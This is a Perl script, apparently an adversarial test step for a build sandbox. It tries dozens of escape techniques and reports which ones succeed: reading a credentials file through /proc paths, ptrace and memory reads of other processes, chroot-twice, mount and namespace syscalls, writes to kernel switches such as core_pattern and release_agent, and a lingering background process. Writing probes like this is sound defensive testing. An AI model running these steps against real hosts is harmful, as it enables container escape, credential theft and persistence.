# A hostile step. Tries everything and goes on; whatever works prints ESCAPE and what it was, or the secret itself.
# Arguments: pid of the canary, pid of the builder, a directory outside, the builder's file.
use strict;
use warnings;
use Socket;

my ($canary, $program, $outside, $builder) = @ARGV;
$| = 1;

sub try_to(&$) {
    my ($attack, $name) = @_;
    my $got = eval { $attack->() };
    print "ESCAPE $name: $got\n" if defined $got && length $got;
    print "held: $name\n";
}

sub content {
    my ($path) = @_;
    open(my $file, '<', $path) or return '';
    sysread($file, my $text, 1 << 20);
    return defined $text ? $text : '';
}

sub leaks { my ($path) = @_; my $text = content($path); return $text =~ /SECRET-[A-Z]+/ ? $text : ''; }

# Files of the builder and of its user, by every way that leads up.
for my $way ('', '/proc/self/root', '/proc/1/root', "/proc/$canary/root", "/proc/$canary/cwd", '/..', '/../../..', '/proc/self/cwd/../../../../..',
             '/proc/self/task/../root', '/dev/fd/../../..', "/proc/self/fd/3/..", '/proc/thread-self/root') {
    try_to { leaks("$way$outside/credentials") } "read by $way";
    try_to { open(my $file, '>>', "$way$outside/escape") or return ''; "wrote $way$outside/escape" } "write by $way";
    try_to { link("$way$outside/credentials", '/tmp/linked') ? 'linked' : '' } "hard link by $way";
    unlink '/tmp/linked';
    try_to { symlink("$way$outside", '/tmp/way'); my $got = leaks('/tmp/way/credentials'); unlink '/tmp/way'; $got } "symlink by $way";
    try_to { rename("$way$outside/credentials", '/tmp/stolen') ? 'renamed' : '' } "rename by $way";
}
try_to { my $up = '../' x 200; leaks("$up$outside/credentials") } 'read by many dots';

# Other processes.
for my $pid ($canary, 1, getppid(), $program) {
    my $mine = grep { $pid == $_ } 1, $$, getppid();
    for my $name (qw(environ mem cmdline maps stack auxv)) {
        try_to { leaks("/proc/$pid/$name") } "/proc/$pid/$name";
    }
    next if $mine;
    try_to { kill('STOP', $pid) ? "signalled $pid" : '' } "kill $pid";
    try_to { my $got = syscall(101, 16, $pid + 0, 0, 0); $got == 0 ? "traced $pid" : '' } "ptrace attach $pid";
    try_to { my $got = syscall(101, 0x4206, $pid + 0, 0, 0); $got == 0 ? "seized $pid" : '' } "ptrace seize $pid";
    try_to {
        my $buffer = "\0" x 64; my $local = pack('P Q', $buffer, 64); my $remote = pack('Q Q', 0x400000, 64);
        my $got = syscall(310, $pid + 0, $local, 1, $remote, 1, 0); $got > 0 ? "read memory of $pid" : ''
    } "process_vm_readv $pid";
    try_to { my $fd = syscall(434, $pid + 0, 0); return '' if $fd < 0; my $got = syscall(438, $fd, 0, 0); $got >= 0 ? "took a descriptor of $pid" : '' } "pidfd_getfd $pid";
    try_to { my $fd = syscall(434, $pid + 0, 0); return '' if $fd < 0; my $got = syscall(424, $fd, 19, 0, 0); $got == 0 ? "signalled $pid by pidfd" : '' } "pidfd_send_signal $pid";
    try_to { for my $fd (0 .. 30) { my $target = readlink("/proc/$pid/fd/$fd"); return "saw descriptor $fd of $pid: $target" if defined $target } '' } "/proc/$pid/fd";
    try_to { for my $fd (0 .. 30) { open(my $file, '<', "/proc/$pid/fd/$fd") and return "opened descriptor $fd of $pid" } '' } "open /proc/$pid/fd";
    try_to { open(my $file, '>', "/proc/$pid/mem") or return ''; "opened the memory of $pid for writing" } "/proc/$pid/mem for writing";
    try_to { open(my $file, '>', "/proc/$pid/oom_score_adj") or return ''; syswrite($file, "1000\n") ? "oom_score_adj of $pid" : '' } "oom_score_adj";
}

# What needs no right over another process but the same user: all at once, limits, priorities, processors.
{
    for my $pid ($canary, $program, getppid()) {
        # A shell of its own is fair game, and so is whoever has the number among the step's own processes.
        next if $pid <= 1 || content("/proc/$pid/cmdline") =~ /attack\.pl/ || $pid == $$;
        try_to { my $limits = pack('QQ', 5, 5); my $got = syscall(302, $pid + 0, 7, $limits, 0); $got == 0 ? "limited the files of $pid" : '' } "prlimit $pid";
        try_to { my $limits = pack('QQ', 0, 0); my $got = syscall(302, $pid + 0, 0, $limits, 0); $got == 0 ? "limited the time of $pid" : '' } "prlimit time $pid";
        try_to { my $got = syscall(141, 0, $pid + 0, 19); $got == 0 ? "priority of $pid" : '' } "setpriority $pid";
        try_to { my $got = syscall(251, 1, $pid + 0, 3 << 13); $got == 0 ? "io priority of $pid" : '' } "ioprio_set $pid";
        try_to { my $mask = pack('Q', 1); my $got = syscall(203, $pid + 0, 8, $mask); $got == 0 ? "processors of $pid" : '' } "sched_setaffinity $pid";
        try_to { my $limits = "\0" x 16; my $got = syscall(302, $pid + 0, 7, 0, $limits); $got == 0 ? "saw a limit of $pid" : '' } "prlimit look $pid";
        # Signals by way of a descriptor's owner.
        try_to {
            socketpair(my $here, my $there, AF_UNIX, SOCK_STREAM, 0) or return '';
            fcntl($here, 8, $pid + 0) or return '';
            fcntl($here, 10, 9) or return '';
            fcntl($here, 4, 020000) or return '';
            syswrite($there, 'x');
            select(undef, undef, undef, 0.05);
            ''
        } "F_SETOWN $pid";
    }
    local $SIG{USR1} = 'IGNORE';
    kill('USR1', -1);
}

# Deletions that nobody asked for: marks of the file system that layers are made with.
try_to { syscall(133, '/etc/hostname.gone', 0020600, 0) == 0 ? 'made a device 0:0' : '' } 'whiteout';
for my $name ('trusted.overlay.opaque', 'user.overlay.opaque', 'user.overlay.whiteout', 'trusted.overlay.redirect', 'user.overlay.redirect', 'user.overlay.metacopy') {
    my ($path, $value) = ('/usr/share/forged', 'y');
    mkdir $path;
    # Whether it is taken is the kernel's affair; what the image becomes of it is looked at by the next step.
    try_to { syscall(188, '/usr/share', $name, $value, 1, 0); syscall(188, $path, $name, $value, 1, 0); '' } $name;
}

# The canary's sockets.
try_to {
    socket(my $socket, AF_UNIX, SOCK_STREAM, 0) or return '';
    connect($socket, pack('S a*', AF_UNIX, "\0$outside")) or return '';
    sysread($socket, my $text, 100); $text
} 'abstract socket';
try_to {
    socket(my $socket, AF_UNIX, SOCK_STREAM, 0) or return '';
    connect($socket, pack_sockaddr_un("$outside/canary.sock")) or return '';
    sysread($socket, my $text, 100); $text
} 'named socket';

# Descriptors that were left open.
for my $fd (3 .. 200) {
    my $target = readlink("/proc/self/fd/$fd");
    next unless defined $target;
    next if $target =~ m{^(pipe|socket|anon_inode):} || $target =~ m{attack\.pl};
    try_to { "descriptor $fd is $target" } "descriptor $fd";
}

# Out of a changed root, the classic ways.
if (my $child = fork()) {
    # In a child, since it changes the process for good.
    waitpid($child, 0);
} else {
    try_to {
        mkdir '/tmp/jail';
        opendir(my $here, '/') or return '';
        chroot('/tmp/jail') or return '';
        chdir('..') for 1 .. 100;
        chroot('.');
        leaks("$outside/credentials")
    } 'chroot twice';
    exit 0;
}
try_to { my $got = syscall(165, "none", "/mnt", "tmpfs", 0, 0); $got == 0 ? 'mounted' : '' } 'mount';
try_to { my $got = syscall(272, 0x10000000); $got == 0 ? 'a user namespace' : '' } 'unshare user';
try_to { my $got = syscall(272, 0x00020000); $got == 0 ? 'a mount namespace' : '' } 'unshare mount';
try_to { my $got = syscall(155, '/tmp', '/tmp'); $got == 0 ? 'pivoted' : '' } 'pivot_root';
try_to { my $got = syscall(304, 0, "\0" x 128, 0); $got >= 0 ? 'opened by handle' : '' } 'open_by_handle_at';
try_to { my $got = syscall(425, 1, "\0" x 120); $got >= 0 ? 'io_uring' : '' } 'io_uring_setup';
try_to { my $got = syscall(323, 1); $got >= 0 ? 'userfaultfd' : '' } 'userfaultfd';
try_to { my $got = syscall(321, 0, "\0" x 120, 120); $got >= 0 ? 'bpf' : '' } 'bpf';
try_to { my $got = syscall(250, 0, -3, 1); $got >= 0 ? 'keyctl' : '' } 'keyctl';
try_to { my $got = syscall(246, 0, 0, 0, 0); $got == 0 ? 'kexec' : '' } 'kexec_load';
try_to { my $got = syscall(175, '', 0, ''); $got == 0 ? 'module' : '' } 'init_module';
try_to { my $got = syscall(157, 4, 1); '' } 'prctl dumpable';

# The kernel's own switches, and devices.
for my $path ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/sys/vm/drop_caches', '/sys/kernel/uevent_helper', '/sys/fs/cgroup/release_agent') {
    try_to { open(my $file, '>', $path) or return ''; "opened $path for writing" } "write $path";
}
try_to { syscall(133, '/tmp/disk', 0060600, 254 << 8); open(my $file, '<', '/tmp/disk') or return ''; sysread($file, my $text, 512) ? 'read a disk' : '' } 'mknod of a disk';
unlink '/tmp/disk';
try_to { open(my $file, '<', '/proc/kcore') or return ''; sysread($file, my $text, 16) ? 'read kcore' : '' } 'kcore';

# The builder's program.
for my $path ($builder, '/proc/self/exe', '/proc/1/exe', "/proc/$canary/exe", "/proc/$program/exe") {
    try_to { open(my $file, '+<', $path) or return ''; $path eq '/proc/self/exe' ? '' : "opened $path for writing" } "overwrite $path";
}

# Something that stays.
unless (fork()) {
    setpgrp(0, 0);
    syscall(112);
    unless (fork()) { close STDOUT; close STDERR; close STDIN; exec('sleep', '98765'); }
    exit 0;
}
print "attacked\n";
